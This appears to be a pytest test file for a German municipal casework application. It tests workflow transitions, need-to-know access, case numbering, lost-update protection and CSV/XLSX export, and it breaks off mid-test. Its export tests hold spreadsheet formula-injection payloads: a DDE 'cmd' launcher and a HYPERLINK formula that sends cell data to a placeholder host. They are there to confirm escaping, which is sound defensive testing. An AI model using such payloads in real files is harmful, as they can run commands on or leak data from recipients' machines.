"""Case work: campaigns from the ranking, the Prüfliste with reviews, cases and their workflow,
need-to-know, Aktenzeichen, assignment, search, export and no lost updates."""

from __future__ import annotations

import csv
import datetime as dt
import io
import threading
from decimal import Decimal
from itertools import product

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from missimo.accounts.models import Agency, AgencyKind
from missimo.accounts.policy import Role
from missimo.audit.models import AuditAction, AuditEvent
from missimo.casework import services, workflow
from missimo.casework.models import (
    Campaign,
    Case,
    CaseEvent,
    CaseOrigin,
    CaseStatus,
    HintReview,
    ReviewDecision,
    ReviewReason,
)
from missimo.properties.models import Property
from missimo.runs.models import Hint, RankedProperty, Run, RunStatus

pytestmark = pytest.mark.django_db(databases="__all__")
STICHTAG = dt.date(2026, 9, 15)

# --- a small hand-built run: five properties, hints of the Familienkasse and the Schulamt ---------

STREETS = ["Lindenstraße 4", "Am Markt 12", "Hafenweg 7", "Bergstraße 1", "Kirchplatz 3"]


def build_city() -> Run:
    """Properties, a finished run with ranking and hints, without running the engine (fast)."""
    run = Run.objects.create(
        stichtag=STICHTAG, status=RunStatus.FINISHED, finished_at=timezone.now(), channel="cli"
    )
    for index, street in enumerate(STREETS, start=1):
        name, number = street.rsplit(" ", 1)
        objekt_id = f"OBJ-{index:04d}"
        prop = Property.objects.create(
            objekt_id=objekt_id,
            strasse=name,
            hausnummer=number,
            plz="45127",
            ort="Essen",
            sort_address=f"{name.casefold()}|{int(number):06d}|",
        )
        rules = ["KG_KIND_NICHT_GEMELDET"] + (["SCHULE_OHNE_MELDUNG"] if index % 2 else [])
        RankedProperty.objects.create(
            run=run,
            rank=index,
            objekt_id=objekt_id,
            address=prop.address,
            score=Decimal(100 - index * 10),
            hint_count=len(rules),
            rules=rules,
            agencies=["familienkasse"],
            persons=2,
            amount_monthly=Decimal("255.00"),
        )
        Hint.objects.create(
            run=run,
            hint_id=f"H-KG-{index}",
            rule="KG_KIND_NICHT_GEMELDET",
            rule_version=1,
            agency_kind="familienkasse",
            primary_ref=f"KG-{index}",
            evidence=[f"kindergeld:KG-{index}"],
            objekt_id=objekt_id,
            address=prop.address,
            amount_monthly=Decimal("255.00"),
            person_ids=[f"P{index}"],
            explanation=f"Für ein Kind wird Kindergeld gezahlt, das an {prop.address} nicht gemeldet ist.",
        )
        if index % 2:
            Hint.objects.create(
                run=run,
                hint_id=f"H-SCH-{index}",
                rule="SCHULE_OHNE_MELDUNG",
                rule_version=1,
                agency_kind="schulamt",
                primary_ref=f"MR-{index}",
                evidence=[f"melderegister:MR-{index}"],
                objekt_id=objekt_id,
                address=prop.address,
                person_ids=[f"P{index}"],
                explanation="Ein schulpflichtiges Kind ist gemeldet, aber an keiner Schule.",
            )
    return run


@pytest.fixture
def city():
    return build_city()


@pytest.fixture
def sam(make_user):
    return make_user("sam", Role.SCHULAMT, "Schulamt", AgencyKind.SCHULAMT)


@pytest.fixture
def paula(make_user):
    return make_user("paula", Role.POLIZEI, "Polizei", AgencyKind.POLIZEI)


def _campaign(kim, agencies=(), name="Aktion Herbst"):
    return services.create_campaign(
        kim,
        {
            "name": name,
            "start": dt.date(2026, 10, 1),
            "end": dt.date(2026, 10, 31),
            "agencies": list(agencies),
        },
    )


def _login(client, user):
    client.force_login(user)
    return client


# --- the transition table ---------------------------------------------------------------------

ALLOWED = {
    ("neu", "in_pruefung"),
    ("neu", "verworfen"),
    ("in_pruefung", "kontrolle_geplant"),
    ("in_pruefung", "massnahmen"),
    ("in_pruefung", "verworfen"),
    ("kontrolle_geplant", "kontrolliert"),
    ("kontrolle_geplant", "in_pruefung"),
    ("kontrolliert", "massnahmen"),
    ("kontrolliert", "abgeschlossen"),
    ("massnahmen", "abgeschlossen"),
    ("verworfen", "in_pruefung"),
    ("abgeschlossen", "in_pruefung"),
}
ALL_PAIRS = list(product(CaseStatus.values, CaseStatus.values))


def test_the_transition_table_is_exactly_the_documented_workflow():
    table = {(a, b) for a, targets in workflow.TRANSITIONS.items() for b in targets}
    assert table == ALLOWED
    assert set(workflow.TRANSITIONS) == set(CaseStatus.values)


@pytest.mark.parametrize(("from_status", "to_status"), ALL_PAIRS)
def test_every_status_pair_is_allowed_or_refused_as_the_table_says(kim, from_status, to_status):
    case = Case.objects.create(aktenzeichen=f"T-{from_status}-{to_status}", status=from_status)
    reason = "weil es so geprüft wurde"
    if (from_status, to_status) in ALLOWED:
        changed = services.transition(kim, case, to_status, reason, version=1)
        assert changed.status == to_status and changed.version == 2
        event = CaseEvent.objects.get(case=case, kind__in=["status", "wiederaufnahme"])
        assert (event.from_status, event.to_status, event.reason, event.actor) == (
            from_status,
            to_status,
            reason,
            kim,
        )
    else:
        with pytest.raises(services.TransitionRefused, match="kann nicht in den Status"):
            services.transition(kim, case, to_status, reason, version=1)
        case.refresh_from_db()
        assert case.status == from_status and case.version == 1
        assert not case.events.exists()


@pytest.mark.parametrize(
    ("from_status", "to_status"),
    [
        ("neu", "verworfen"),
        ("in_pruefung", "verworfen"),
        ("verworfen", "in_pruefung"),
        ("abgeschlossen", "in_pruefung"),
    ],
)
def test_discarding_and_reopening_need_a_reason(kim, from_status, to_status):
    case = Case.objects.create(aktenzeichen="T-1", status=from_status)
    with pytest.raises(services.TransitionRefused, match="Bitte begründen Sie"):
        services.transition(kim, case, to_status, "  ")
    assert Case.objects.get(pk=case.pk).status == from_status


def test_a_transition_without_reason_is_fine_where_none_is_required(kim):
    case = Case.objects.create(aktenzeichen="T-1")
    assert services.transition(kim, case, CaseStatus.IN_PRUEFUNG).status == CaseStatus.IN_PRUEFUNG


def test_reopening_clears_the_closing_date_and_is_recorded_as_such(kim):
    case = Case.objects.create(aktenzeichen="T-1", status=CaseStatus.MASSNAHMEN)
    services.transition(kim, case, CaseStatus.ABGESCHLOSSEN)
    assert Case.objects.get(pk=case.pk).closed_at is not None
    services.transition(kim, case, CaseStatus.IN_PRUEFUNG, "Neue Beschwerde der Nachbarn")
    case.refresh_from_db()
    assert case.closed_at is None and case.status == CaseStatus.IN_PRUEFUNG
    assert case.events.first().kind == "wiederaufnahme"


def test_a_transition_with_a_stale_version_is_a_conflict_and_changes_nothing(kim):
    case = Case.objects.create(aktenzeichen="T-1")
    services.transition(kim, case, CaseStatus.IN_PRUEFUNG, version=1)
    with pytest.raises(services.ConflictError, match="Jemand anderes"):
        services.transition(kim, case, CaseStatus.VERWORFEN, "doppelt erfasst", version=1)
    assert Case.objects.get(pk=case.pk).status == CaseStatus.IN_PRUEFUNG
    assert issubclass(services.ConflictError, services.TransitionRefused)
    assert issubclass(services.TransitionRefused, ValueError)


def test_every_transition_is_audited(kim):
    case = Case.objects.create(aktenzeichen="T-9")
    services.transition(kim, case, CaseStatus.VERWORFEN, "Objekt abgerissen")
    event = AuditEvent.objects.filter(action=AuditAction.CHANGE, object_type="case").last()
    assert event.object_id == "T-9" and event.details["to"] == "verworfen"
    assert event.details["reason"] == "Objekt abgerissen"


def test_the_case_page_offers_only_the_allowed_transitions(client, kim, city):
    campaign = _campaign(kim)
    case = services.select_properties(kim, campaign, ["OBJ-0001"])[0]
    services.transition(kim, case, CaseStatus.IN_PRUEFUNG)
    html = _login(client, kim).get(reverse("casework:case_detail", args=[case.pk])).content.decode()
    for target in CaseStatus.values:
        shown = f'name="status" value="{target}"' in html
        assert shown == (target in workflow.TRANSITIONS[CaseStatus.IN_PRUEFUNG]), target


def test_a_forbidden_transition_posted_by_hand_is_refused_with_a_german_message(client, kim):
    case = Case.objects.create(aktenzeichen="T-1")
    response = _login(client, kim).post(
        reverse("casework:case_transition", args=[case.pk]),
        {"status": "abgeschlossen", "version": 1},
        follow=True,
    )
    assert "kann nicht in den Status „abgeschlossen“ wechseln" in response.content.decode()
    assert Case.objects.get(pk=case.pk).status == CaseStatus.NEU


# --- campaigns ------------------------------------------------------------------------------


def test_a_campaign_whose_end_is_before_its_start_is_refused_in_german(client, kim, city):
    response = _login(client, kim).post(
        reverse("casework:campaign_create"),
        {"name": "Aktion", "start": "31.10.2026", "end": "01.10.2026", "agencies": [kim.agency_id]},
    )
    assert response.status_code == 200
    assert "Das Ende darf nicht vor dem Beginn liegen." in response.content.decode()
    assert not Campaign.objects.exists()


def test_the_coordination_office_creates_a_campaign_and_takes_the_top_properties(client, kim, fabian, city):
    _login(client, kim)
    response = client.post(
        reverse("casework:campaign_create"),
        {
            "name": "Aktion Nordviertel",
            "start": "01.10.2026",
            "end": "31.10.2026",
            "agencies": [kim.agency_id, fabian.agency_id],
        },
    )
    campaign = Campaign.objects.get()
    assert response.status_code == 302 and campaign.run == city
    page = client.get(reverse("casework:campaign_select", args=[campaign.pk])).content.decode()
    assert "Lindenstraße 4, 45127 Essen" in page and "Top N übernehmen" in page
    client.post(reverse("casework:campaign_select", args=[campaign.pk]), {"aktion": "top", "top_n": "2"})
    cases = list(campaign.cases.order_by("aktenzeichen"))
    assert [c.property.objekt_id for c in cases] == ["OBJ-0001", "OBJ-0002"]
    assert all(c.origin == CaseOrigin.KAMPAGNE for c in cases)
    assert sorted(cases[0].hints.values_list("hint_id", flat=True)) == ["H-KG-1", "H-SCH-1"]
    # Checkboxes add further properties; ones already taken are skipped.
    client.post(
        reverse("casework:campaign_select", args=[campaign.pk]),
        {"aktion": "auswahl", "objekt": ["OBJ-0001", "OBJ-0004"]},
    )
    assert sorted(campaign.cases.values_list("property__objekt_id", flat=True)) == [
        "OBJ-0001",
        "OBJ-0002",
        "OBJ-0004",
    ]
    detail = client.get(reverse("casework:campaign_detail", args=[campaign.pk])).content.decode()
    assert "Bergstraße 1" in detail and "MIS-" in detail
    counts = client.get(reverse("casework:campaign_detail", args=[campaign.pk])).context["counts"]
    assert ("neu", "neu", 3) in counts and sum(n for _, _, n in counts) == 3
    from missimo.audit.models import AuditEvent

    reads = AuditEvent.objects.filter(object_type="campaign", action="read")
    assert reads.exists() and set(reads.values_list("object_id", flat=True)) == {
        str(campaign.pk)
    }  # issue #21
    report_link = f"/berichte/bericht/?art=abschlussbericht&amp;aktion={campaign.pk}"
    assert report_link in detail
    report = client.get(report_link.replace("&amp;", "&"))
    assert report.status_code == 200 and "Aktion Nordviertel" in report.content.decode()
    _login(client, fabian)
    assert (
        report_link
        not in client.get(reverse("casework:campaign_detail", args=[campaign.pk])).content.decode()
    )


def test_only_the_coordination_office_may_create_campaigns(client, fabian, city):
    assert _login(client, fabian).get(reverse("casework:campaign_create")).status_code == 404
    with pytest.raises(PermissionError):
        _campaign(fabian)


# --- Aktenzeichen ---------------------------------------------------------------------------


def test_aktenzeichen_are_sequential_per_year_and_unique(kim, city):
    campaign = _campaign(kim)
    cases = services.select_properties(kim, campaign, ["OBJ-0001", "OBJ-0002", "OBJ-0003"])
    year = timezone.localdate().year
    assert [c.aktenzeichen for c in cases] == [f"MIS-{year}-{n:05d}" for n in (1, 2, 3)]
    assert services.next_aktenzeichen(2030) == "MIS-2030-00001"
    assert services.next_aktenzeichen(year) == f"MIS-{year}-00004"


@pytest.mark.django_db(databases="__all__", transaction=True)
def test_aktenzeichen_stay_unique_when_many_are_handed_out_at_once():
    if connection.vendor == "sqlite":
        pytest.skip("SQLite serialises writers; the concurrency test runs on PostgreSQL")
    numbers: list[str] = []
    errors: list[Exception] = []

    def take():
        from django.db import connections

        try:
            for _ in range(10):
                numbers.append(services.next_aktenzeichen(2031))
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=take) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert sorted(numbers) == [f"MIS-2031-{n:05d}" for n in range(1, 41)]


# --- need-to-know ---------------------------------------------------------------------------


def test_fabian_sees_no_case_of_a_campaign_his_agency_is_not_part_of(client, kim, fabian, city):
    campaign = _campaign(kim, agencies=[kim.agency])
    case = services.select_properties(kim, campaign, ["OBJ-0001"])[0]
    _login(client, fabian)
    assert client.get(reverse("casework:case_detail", args=[case.pk])).status_code == 404
    assert client.get(reverse("casework:campaign_detail", args=[campaign.pk])).status_code == 404
    assert client.get(reverse("casework:case_edit", args=[case.pk])).status_code == 404
    assert (
        client.post(
            reverse("casework:case_transition", args=[case.pk]), {"status": "in_pruefung"}
        ).status_code
        == 404
    )
    assert case.aktenzeichen not in client.get(reverse("casework:cases")).content.decode()
    assert not services.cases_for(fabian).exists()
    with pytest.raises(services.TransitionRefused, match="nicht bearbeiten"):
        services.transition(fabian, case, CaseStatus.IN_PRUEFUNG)


def test_a_participating_agency_sees_the_case_but_only_its_own_hints(client, kim, fabian, city):
    campaign = _campaign(kim, agencies=[kim.agency, fabian.agency])
    case = services.select_properties(kim, campaign, ["OBJ-0001"])[0]
    assert list(services.cases_for(fabian)) == [case]
    html = _login(client, fabian).get(reverse("casework:case_detail", args=[case.pk])).content.decode()
    assert "H-KG-1" in html and "H-SCH-1" not in html
    assert reverse("runs:links", args=[Hint.objects.get(hint_id="H-KG-1").pk]) in html
    read = AuditEvent.objects.filter(action=AuditAction.READ, object_type="case").last()
    assert read.object_id == case.aktenzeichen and read.details["hints"] == ["H-KG-1"]


def test_a_case_assigned_to_someone_outside_the_campaign_is_visible_to_them(kim, sam, city):
    case = Case.objects.create(aktenzeichen="T-1", assigned_to=sam)
    assert list(services.cases_for(sam)) == [case]


def test_roles_without_case_work_see_no_cases_and_no_menu(client, dana, city):
    Case.objects.create(aktenzeichen="T-1")
    assert not services.cases_for(dana).exists()
    _login(client, dana)
    assert client.get(reverse("casework:campaigns")).status_code == 404
    assert client.get(reverse("casework:hint_queue")).status_code == 404
    from missimo.casework import nav

    assert nav.items(dana) == []


def test_the_menu_offers_actions_the_hint_queue_and_my_cases(kim, paula):
    from missimo.casework import nav

    assert [label for label, _ in nav.items(kim)] == ["Aktionen", "Prüfliste", "Meine Fälle", "Fristen"]
    assert [label for label, _ in nav.items(paula)] == ["Aktionen", "Meine Fälle", "Fristen"]


# --- the Prüfliste --------------------------------------------------------------------------


def test_the_hint_queue_shows_only_own_hints_in_ranking_order_and_says_hint_not_proof(client, fabian, city):
    html = _login(client, fabian).get(reverse("casework:hint_queue")).content.decode()
    assert "Hinweis, kein Nachweis." in html
    assert "H-SCH-1" not in html
    positions = [html.index(f"Hinweis H-KG-{n})") for n in range(1, 6)]
    assert positions == sorted(positions)
    event = AuditEvent.objects.filter(object_type="hint_queue").last()
    assert event.details["hints"] == [f"H-KG-{n}" for n in range(1, 6)]


def test_a_hint_is_confirmed_for_inspection_and_its_latest_review_is_its_status(client, fabian, city):
    hint = Hint.objects.get(hint_id="H-KG-2")
    assert services.hint_status(hint) == "offen"
    _login(client, fabian).post(
        reverse("casework:hint_review", args=[hint.pk]), {"entscheidung": "bestaetigt"}
    )
    assert services.hint_status(hint) == "bestaetigt"
    services.review_hint(fabian, hint, ReviewDecision.VERWORFEN, ReviewReason.VERALTET)
    assert services.hint_status(hint) == "verworfen"
    assert HintReview.objects.filter(hint=hint).count() == 2  # the history stays
    review = HintReview.objects.filter(hint=hint).first()
    assert review.agency == fabian.agency and review.reviewed_by == fabian
    annotated = services.with_review_status(Hint.objects.filter(run=city)).get(pk=hint.pk)
    assert annotated.review_status == "verworfen" and annotated.review_reason == "veraltet"
    assert list(services.latest_reviews(city)) == [review]
    filtered = client.get(reverse("casework:hint_queue"), {"status": "verworfen"}).content.decode()
    assert "H-KG-2" in filtered and "H-KG-1)" not in filtered
    assert "<strong>Status:</strong> verworfen" in filtered


def test_a_dismissed_hint_needs_a_reason_code(client, fabian, city):
    hint = Hint.objects.get(hint_id="H-KG-3")
    with pytest.raises(services.ReviewRefused, match="Grund"):
        services.review_hint(fabian, hint, ReviewDecision.VERWORFEN, "")
    response = _login(client, fabian).post(
        reverse("casework:hint_review", args=[hint.pk]),
        {"entscheidung": "verworfen", "grund": ""},
        follow=True,
    )
    assert "Bitte wählen Sie einen Grund für das Verwerfen." in response.content.decode()
    assert not HintReview.objects.exists()


def test_dismissing_for_another_reason_needs_an_explanation(fabian, city):
    hint = Hint.objects.get(hint_id="H-KG-3")
    with pytest.raises(services.ReviewRefused, match="sonstiges"):
        services.review_hint(fabian, hint, ReviewDecision.VERWORFEN, ReviewReason.SONSTIGES, " ")
    review = services.review_hint(fabian, hint, ReviewDecision.VERWORFEN, ReviewReason.SONSTIGES, "Abriss")
    assert review.note == "Abriss"
    assert AuditEvent.objects.filter(object_type="hint_review", object_id="H-KG-3").exists()


def test_a_hint_of_another_agency_cannot_be_reviewed(client, fabian, city):
    hint = Hint.objects.get(hint_id="H-SCH-1")
    response = _login(client, fabian).post(
        reverse("casework:hint_review", args=[hint.pk]), {"entscheidung": "bestaetigt"}
    )
    assert response.status_code == 404
    with pytest.raises(services.ReviewRefused):
        services.review_hint(fabian, hint, ReviewDecision.BESTAETIGT)


# --- cases by hand --------------------------------------------------------------------------


def test_fabian_opens_a_case_from_a_suspicion_at_a_property_he_may_see(client, fabian, city):
    _login(client, fabian)
    found = client.get(reverse("casework:case_create"), {"q": "OBJ-0002"}).content.decode()
    assert "Am Markt 12" in found
    prop = Property.objects.get(objekt_id="OBJ-0002")
    response = client.post(
        reverse("casework:case_create"),
        {
            "q": "OBJ-0002",
            "anlegen": "1",
            "property": str(prop.pk),
            "origin": CaseOrigin.FAMILIENKASSE,
            "description": "Kindergeld für drei Kinder, Briefkasten ohne Namen.",
        },
    )
    case = Case.objects.get()
    assert response.status_code == 302
    assert case.property == prop and case.origin == CaseOrigin.FAMILIENKASSE
    assert case.lead_agency == fabian.agency and case.assigned_to == fabian
    assert list(services.cases_for(fabian)) == [case]


def test_a_property_outside_the_scope_cannot_be_found_for_a_case(fabian, city):
    Property.objects.create(objekt_id="OBJ-9999", strasse="Feldweg", hausnummer="9", plz="45127", ort="Essen")
    assert services.search_properties(fabian, "Feldweg") == []
    with pytest.raises(services.TransitionRefused, match="Zuständigkeitsbereich"):
        services.open_case(
            fabian,
            {
                "origin": "beschwerde",
                "property": Property.objects.get(objekt_id="OBJ-9999"),
                "description": "x",
            },
        )


def test_a_case_opened_without_a_property_gets_one_later_recorded_in_its_history(client, fabian, city):
    case = services.open_case(
        fabian, {"origin": CaseOrigin.BESCHWERDE, "description": "Beschwerde", "property": None}
    )
    _login(client, fabian)
    detail = client.get(reverse("casework:case_detail", args=[case.pk])).content.decode()
    assert "Objekt zuordnen" in detail
    found = client.get(reverse("casework:case_edit", args=[case.pk]), {"q": "OBJ-0002"}).content.decode()
    assert "Am Markt 12" in found
    prop = Property.objects.get(objekt_id="OBJ-0002")
    response = client.post(
        reverse("casework:case_edit", args=[case.pk]),
        {"q": "OBJ-0002", "property": str(prop.pk), "version": case.version, "description": "Beschwerde"},
    )
    assert response.status_code == 302
    case.refresh_from_db()
    assert case.property == prop
    event = case.events.filter(kind="bearbeitet").get()
    assert {
        "field": "Objekt",
        "old": "ohne Objekt",
        "new": f"{prop.address} (Objekt-ID OBJ-0002)",
    } in event.changes
    # Once linked, the property is fixed: the form no longer offers it and the service refuses a change.
    assert "Objekt zuordnen" not in client.get(reverse("casework:case_edit", args=[case.pk])).content.decode()
    other = Property.objects.get(objekt_id="OBJ-0001")
    with pytest.raises(services.TransitionRefused, match="gewechselt"):
        services.update_case(fabian, case, {"property": other}, case.version)


def test_a_property_outside_the_scope_cannot_be_linked_to_a_case_later(fabian, city):
    case = services.open_case(fabian, {"origin": CaseOrigin.BESCHWERDE, "description": "x", "property": None})
    outside = Property.objects.create(
        objekt_id="OBJ-9998", strasse="Feldweg", hausnummer="8", plz="45127", ort="Essen"
    )
    with pytest.raises(services.TransitionRefused, match="Zuständigkeitsbereich"):
        services.update_case(fabian, case, {"property": outside}, case.version)


# --- editing without lost updates -----------------------------------------------------------


def test_two_clients_editing_the_same_case_the_second_gets_409_with_what_changed(client, kim, city):
    from django.test import Client

    case = Case.objects.create(aktenzeichen="T-1", title="alt", lead_agency=kim.agency)
    first, second = _login(client, kim), Client()
    second.force_login(kim)
    url = reverse("casework:case_edit", args=[case.pk])
    assert first.get(url).status_code == second.get(url).status_code == 200
    ok = first.post(url, {"title": "Lindenstraße: Hinterhaus", "description": "", "version": 1})
    assert ok.status_code == 302
    clash = second.post(url, {"title": "Meine Fassung", "description": "", "version": 1})
    html = clash.content.decode()
    assert clash.status_code == 409
    assert "Jemand anderes hat diesen Prüffall geändert" in html
    assert "„alt“ → „Lindenstraße: Hinterhaus“" in html
    assert 'name="version" value="2"' in html
    assert Case.objects.get(pk=case.pk).title == "Lindenstraße: Hinterhaus"


def test_an_edit_is_recorded_in_the_history_and_the_audit_log(kim, city):
    case = Case.objects.create(aktenzeichen="T-1", lead_agency=kim.agency)
    services.update_case(kim, case, {"title": "neu", "assigned_to": kim}, 1)
    event = case.events.get(kind="bearbeitet")
    assert {c["field"] for c in event.changes} == {"Kurzbezeichnung", "zuständig"}
    assert event.case_version == 2
    assert AuditEvent.objects.filter(object_type="case", object_id="T-1", action=AuditAction.CHANGE).exists()


def test_a_case_cannot_be_assigned_to_someone_outside_the_participating_agencies(kim, fabian, city):
    campaign = _campaign(kim, agencies=[kim.agency])
    case = services.select_properties(kim, campaign, ["OBJ-0001"])[0]
    with pytest.raises(services.TransitionRefused, match="nicht zugewiesen"):
        services.update_case(kim, case, {"assigned_to": fabian}, case.version)


# --- Meine Fälle, bulk assignment, caseload, search, export ---------------------------------


def test_bulk_assignment_assigns_every_selected_case_and_is_audited(client, kim, fabian, city):
    campaign = _campaign(kim, agencies=[kim.agency, fabian.agency])
    cases = services.select_properties(kim, campaign, ["OBJ-0001", "OBJ-0002", "OBJ-0003"])
    _login(client, kim).post(
        reverse("casework:case_assign"), {"fall": [cases[0].pk, cases[2].pk], "zustaendig": fabian.pk}
    )
    assert set(Case.objects.filter(assigned_to=fabian).values_list("pk", flat=True)) == {
        cases[0].pk,
        cases[2].pk,
    }
    event = AuditEvent.objects.filter(object_type="case_assignment").last()
    assert set(event.details["cases"]) == {cases[0].aktenzeichen, cases[2].aktenzeichen}
    _login(client, fabian)
    mine = client.get(reverse("casework:my_cases")).content.decode()
    assert cases[0].aktenzeichen in mine and cases[1].aktenzeichen not in mine
    # The stale version of an assigned case is a conflict now.
    with pytest.raises(services.ConflictError):
        services.update_case(kim, cases[0], {"title": "x"}, 1)


def test_bulk_assignment_to_an_agency_outside_the_campaign_is_refused(client, kim, sam, city):
    campaign = _campaign(kim, agencies=[kim.agency])
    case = services.select_properties(kim, campaign, ["OBJ-0001"])[0]
    response = _login(client, kim).post(
        reverse("casework:case_assign"), {"fall": [case.pk], "zustaendig": sam.pk}, follow=True
    )
    assert "gehört zu keiner beteiligten Behörde" in response.content.decode()
    assert Case.objects.get(pk=case.pk).assigned_to is None


def test_the_team_caseload_counts_cases_per_assignee_and_status(client, kim, fabian, city):
    campaign = _campaign(kim, agencies=[kim.agency, fabian.agency])
    cases = services.select_properties(kim, campaign, ["OBJ-0001", "OBJ-0002", "OBJ-0003"])
    services.assign_cases(kim, cases[:2], fabian)
    services.transition(kim, cases[0], CaseStatus.IN_PRUEFUNG)
    rows = {row["name"]: row for row in services.caseload(kim)}
    neu, in_pruefung = CaseStatus.values.index("neu"), CaseStatus.values.index("in_pruefung")
    assert rows["fabian"]["counts"][neu] == 1 and rows["fabian"]["counts"][in_pruefung] == 1
    assert rows["nicht zugewiesen"]["total"] == 1
    assert _login(client, kim).get(reverse("casework:caseload")).status_code == 200
    assert services.caseload(fabian) == []
    _login(client, fabian)
    assert client.get(reverse("casework:caseload")).status_code == 404


def test_search_finds_cases_by_aktenzeichen_address_and_hint_id_within_scope(kim, fabian, city):
    campaign = _campaign(kim, agencies=[kim.agency, fabian.agency])
    one, two = services.select_properties(kim, campaign, ["OBJ-0001", "OBJ-0002"])
    assert list(services.search_cases(kim, one.aktenzeichen)) == [one]
    assert list(services.search_cases(kim, "Markt 12")) == [two]
    assert list(services.search_cases(fabian, "H-KG-2")) == [two]
    # The Schulamt's hint id is not searchable for the Familienkasse.
    assert list(services.search_cases(fabian, "H-SCH-1")) == []
    assert list(services.search_cases(kim, "H-SCH-1")) == [one]


def test_the_export_has_exactly_the_listed_cases_with_the_listed_columns(client, kim, city):
    campaign = _campaign(kim, agencies=[kim.agency])
    one, two = services.select_properties(kim, campaign, ["OBJ-0001", "OBJ-0002"])
    services.transition(kim, two, CaseStatus.IN_PRUEFUNG)
    _login(client, kim)
    listed = client.get(reverse("casework:cases"), {"status": "neu"}).content.decode()
    assert one.aktenzeichen in listed and two.aktenzeichen not in listed
    body = client.get(reverse("casework:case_export", args=["csv"]), {"status": "neu"}).content.decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[0] == [label for _, label in services.CASE_COLUMNS]
    assert [row[0] for row in rows[1:]] == [one.aktenzeichen]
    xlsx = client.get(reverse("casework:case_export", args=["xlsx"]), {"status": "neu"}).content
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    assert next(c.value for c in sheet[2]) == one.aktenzeichen
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, object_type="case_list").count() == 2


def test_an_export_cell_starting_with_a_formula_is_escaped(client, kim, city):
    Property.objects.filter(objekt_id="OBJ-0001").update(strasse="=cmd|' /C calc'!A0")
    campaign = _campaign(kim, agencies=[kim.agency], name="+Aktion")
    services.select_properties(kim, campaign, ["OBJ-0001"])
    body = _login(client, kim).get(reverse("casework:case_export", args=["csv"])).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(body), delimiter=";"))[1]
    assert row[1].startswith("'=cmd") and row[2] == "'+Aktion"
    xlsx = client.get(reverse("casework:case_export", args=["xlsx"])).content
    values = [c.value for c in openpyxl.load_workbook(io.BytesIO(xlsx)).active[2]]
    assert values[1].startswith("'=cmd") and values[2] == "'+Aktion"


FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx(response) -> list[list]:
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_hint_queue_export_has_the_hints_of_the_filtered_queue_in_its_order(client, kim, fabian, city):
    services.review_hint(fabian, Hint.objects.get(hint_id="H-KG-2"), ReviewDecision.VERWORFEN, "veraltet")
    services.review_hint(fabian, Hint.objects.get(hint_id="H-KG-4"), ReviewDecision.VERWORFEN, "veraltet")
    _login(client, kim)
    page = client.get(reverse("casework:hint_queue"), {"status": "verworfen"})
    shown = [h.hint_id for h, _history, _cases in page.context["items"]]
    assert shown == ["H-KG-2", "H-KG-4"]
    assert "/aktionen/pruefliste/export.csv?status=verworfen" in page.content.decode()
    url = reverse("casework:hint_queue_export", args=["csv"])
    rows = _csv(client.get(url, {"status": "verworfen"}))
    assert rows[0][:4] == ["Rang", "Regel", "Bezeichnung", "Hinweis-ID"]
    assert [row[3] for row in rows[1:]] == shown and {row[4] for row in rows[1:]} == {"verworfen"}
    xlsx = _xlsx(client.get(reverse("casework:hint_queue_export", args=["xlsx"]), {"status": "verworfen"}))
    assert [row[3] for row in xlsx[1:]] == shown
    assert client.get(reverse("casework:hint_queue_export", args=["ods"])).status_code == 404


def test_the_hint_queue_export_is_audited_and_has_no_hint_of_another_agency(client, fabian, city):
    rows = _csv(_login(client, fabian).get(reverse("casework:hint_queue_export", args=["csv"])))
    assert [row[3] for row in rows[1:]] == [f"H-KG-{n}" for n in range(1, 6)]
    assert "SCHULE_OHNE_MELDUNG" not in {row[1] for row in rows[1:]}
    event = AuditEvent.objects.get(action=AuditAction.EXPORT, object_type="hint_queue")
    assert event.actor_username == "fabian" and event.purpose == "Export der Prüfliste der eigenen Stelle"
    assert event.details["hints"] == [f"H-KG-{n}" for n in range(1, 6)]


def test_a_formula_in_the_hint_queue_is_exported_as_text(client, kim, city):
    Hint.objects.update(explanation=FORMULA)
    _login(client, kim)
    rows = _csv(client.get(reverse("casework:hint_queue_export", args=["csv"])))
    assert {row[5] for row in rows[1:]} == {"'" + FORMULA}
    xlsx = _xlsx(client.get(reverse("casework:hint_queue_export", args=["xlsx"])))
    assert {row[5] for row in xlsx[1:]} == {"'" + FORMULA}


def test_the_campaign_export_has_the_campaigns_the_page_shows_with_their_counts(client, kim, fabian, city):
    shared = _campaign(kim, agencies=[kim.agency, fabian.agency], name=FORMULA)
    _campaign(kim, agencies=[kim.agency], name="Nur Ordnungsamt")
    services.select_properties(kim, shared, ["OBJ-0001", "OBJ-0002"])
    _login(client, fabian)
    page = client.get(reverse("casework:campaigns"))
    assert [campaign.name for campaign, _counts in page.context["campaigns"]] == [FORMULA]
    rows = _csv(client.get(reverse("casework:campaign_export", args=["csv"])))
    assert rows[0][:3] == ["Bezeichnung", "Zeitraum", "Beteiligte Behörden"]
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA]
    assert rows[1][3] == "2"  # two cases with the status "neu"
    xlsx = _xlsx(client.get(reverse("casework:campaign_export", args=["xlsx"])))
    assert xlsx[1][0] == "'" + FORMULA and xlsx[1][3] == 2
    _login(client, kim)
    names = [row[0] for row in _csv(client.get(reverse("casework:campaign_export", args=["csv"])))[1:]]
    assert sorted(names) == sorted(["'" + FORMULA, "Nur Ordnungsamt"])


def test_the_caseload_export_has_the_rows_of_the_team_caseload(client, kim, fabian, city):
    campaign = _campaign(kim, agencies=[kim.agency, fabian.agency])
    cases = services.select_properties(kim, campaign, ["OBJ-0001", "OBJ-0002", "OBJ-0003"])
    services.assign_cases(kim, cases[:1], fabian)
    fabian.first_name = FORMULA
    fabian.save()
    _login(client, kim)
    page = client.get(reverse("casework:caseload"))
